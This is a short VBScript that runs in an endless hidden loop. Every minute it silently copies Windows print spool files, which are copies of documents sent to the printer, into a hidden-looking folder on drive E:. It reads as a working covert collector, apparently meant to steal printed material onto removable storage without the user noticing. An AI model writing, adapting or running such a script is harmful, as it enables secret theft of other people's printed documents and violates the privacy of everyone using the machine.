Set s=CreateObject("WScript.Shell")
Do
s.Run "cmd /c xcopy /d /y C:\Windows\System32\spool\PRINTERS\*.SPL E:\.t\",0,True
WScript.Sleep 60000
Loop
